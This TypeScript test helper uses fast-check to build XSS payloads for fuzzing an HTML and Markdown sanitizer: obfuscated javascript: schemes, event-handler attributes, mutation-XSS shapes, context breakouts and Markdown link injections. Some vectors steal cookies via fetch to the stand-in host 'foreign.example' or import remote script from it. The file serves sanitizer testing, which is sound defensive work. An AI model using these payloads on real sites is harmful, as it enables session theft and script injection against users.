import fc from 'fast-check'

/** A host that is not the site's: nothing may ever be asked of it. */
export const foreignHost = 'foreign.example'

const calls = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  "top['al'+'ert'](1)",
  "setTimeout('alert(1)')",
  "Function('alert(1)')()",
  "self[atob('YWxlcnQ=')](1)",
  '\\u0061lert(1)',
  `fetch('//${foreignHost}/?'+document.cookie)`,
  `import('//${foreignHost}/x.js')`,
  `new Image().src='//${foreignHost}'`,
  'throw onerror=alert,1',
]

const events =
  'onerror onload onfocus onmouseover onclick ontoggle onanimationstart onpointerenter onbegin onscroll'.split(' ')

const tags = (
  'script img svg math iframe object embed video audio source body style link meta base form input button details marquee ' +
  'template noscript xmp plaintext textarea title select table a p div x-y frameset animate set foreignObject mglyph mtext ' +
  'annotation-xml noembed listing isindex dialog portal'
).split(' ')

const carriers =
  'src href xlink:href action formaction srcdoc background poster data to values srcset ping style'.split(' ')

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A',
  'jav&#x09;ascript:',
  'java%0ascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:',
  'feed:javascript:',
  `//${foreignHost}/`,
  `\\\\${foreignHost}\\`,
  `https:/${foreignHost}/`,
]

const between = [' ', '/', '\n', '\t', '\f', '/ /', ' " ', '\u00a0']
const ends = ['>', '', '/>', '<', '>>', ' //', '\n>']

const decimal = (text: string) => Array.from(text, (letter) => `&#${letter.codePointAt(0)}`).join('')
const hexadecimal = (text: string) =>
  Array.from(text, (letter) => `&#x0${letter.codePointAt(0)?.toString(16)};`).join('')
const capitals = (text: string) => Array.from(text, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')
const wide = (text: string) => text.replace(/[<>"']/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0))

const call = fc
  .tuple(
    fc.constantFrom(...calls),
    fc.constantFrom((text: string) => text, decimal, hexadecimal),
  )
  .map(([text, written]) => written(text))

const quoted = (text: string) => fc.constantFrom(`"${text}"`, `'${text}'`, text, `\`${text}\``, `"${text}`, `""${text}`)

const address = fc.tuple(fc.constantFrom(...schemes), call).map(([scheme, text]) => scheme + text)

const attribute = fc.oneof(
  fc.tuple(fc.constantFrom(...events), call.chain(quoted)).map(([name, value]) => `${name}=${value}`),
  fc.tuple(fc.constantFrom(...carriers), address.chain(quoted)).map(([name, value]) => `${name}=${value}`),
  fc.constantFrom(
    'autofocus',
    'open',
    'src=x',
    'style=animation-name:x',
    `style=background:url(//${foreignHost})`,
    'id=forms',
  ),
)

const tag = fc
  .tuple(
    fc.constantFrom(...tags),
    fc.array(fc.tuple(fc.constantFrom(...between), attribute), { minLength: 1, maxLength: 3 }),
    fc.constantFrom(...ends),
    fc.constantFrom((text: string) => text, capitals),
  )
  .map(([name, attributes, end, written]) => `<${written(name)}${attributes.flat().join('')}${end}`)

/** Shapes that change their meaning when they are parsed, written out and parsed again. */
const mutating = tag.chain((inner) =>
  fc.constantFrom(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner}">`,
    `<svg></p><style><a id="</style>${inner}">`,
    `<noscript><p title="</noscript>${inner}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<svg><style><img title="</style>${inner}">`,
    `<math><annotation-xml encoding="text/html"><style></style>${inner}`,
    `<template><style></template>${inner}`,
    `<xmp><p title="</xmp>${inner}">`,
    `<textarea></textarea>${inner}`,
    `<title><img alt="</title>${inner}">`,
    `<![CDATA[${inner}]]>`,
    `<!-->${inner}-->`,
    `<!--!>${inner}`,
    `<?xml version="1.0"?>${inner}`,
    `<select><style></select>${inner}`,
    `<p id=x><svg><p>${inner}`,
    `<plaintext>${inner}`,
    `<listing>&lt;${inner}</listing>`,
  ),
)

/** Ways out of where a value stands. */
const breakout = tag.chain((inner) =>
  fc.constantFrom(
    `">${inner}`,
    `'>${inner}`,
    `-->${inner}`,
    `]]>${inner}`,
    `</textarea>${inner}`,
    `</title>${inner}`,
    `</script>${inner}`,
    `</style>${inner}`,
    `</bdi></p>${inner}`,
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '\u2028alert(1)//',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: text that a template would run
    '${alert(1)}',
    "{{constructor.constructor('alert(1)')()}}",
    '\\";alert(1)//',
    `%3Cscript%3Ealert(1)%3C/script%3E`,
    `\\x3cscript\\x3ealert(1)`,
    wide(inner),
    inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    inner.replaceAll('<', '&amp;lt;'),
  ),
)

/** What the small Markdown of comments could be talked into. */
const marked = fc
  .tuple(address, tag)
  .chain(([link, inner]) =>
    fc.constantFrom(
      `[link](${link})`,
      `[link](<${link}>)`,
      `![picture](${link})`,
      `<${link}>`,
      `[link]\n\n[link]: ${link}`,
      `[link](https://a.example "${inner}")`,
      `[${inner}](https://a.example)`,
      `[link](https://a.example/"onmouseover="alert(1))`,
      `https://a.example/"${inner}`,
      `https://a.example/?q=${inner}`,
      `www.a.example/${inner}`,
      `\`${inner}\``,
      `\`\`\`html" onload=alert(1)\n${inner}\n\`\`\``,
      `> ${inner}`,
      `- ${inner}`,
      `1. [${inner}](${link})`,
      `**${inner}**`,
      `*[link](${link})*`,
      `    ${inner}`,
      `&lt;script&gt;alert(1)&lt;/script&gt; ${inner}`,
    ),
  )

const nested: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(tag, mutating, breakout, marked),
    fc.oneof(tag, mutating, breakout, marked),
    fc.constantFrom(...between),
  )
  .map(([outer, inner, gap]) => outer.replace('alert(1)', `${inner}alert(1)`) + gap + inner)

/** @returns that many texts, each different, the same for the same seed */
export const grownVectors = (count: number, seed: number): string[] => {
  const found = new Set<string>()
  const all = fc.oneof(tag, mutating, breakout, marked, nested)
  for (let round = 0; found.size < count; round++)
    for (const text of fc.sample(all, { numRuns: count, seed: seed + round })) if (found.size < count) found.add(text)
  return [...found]
}
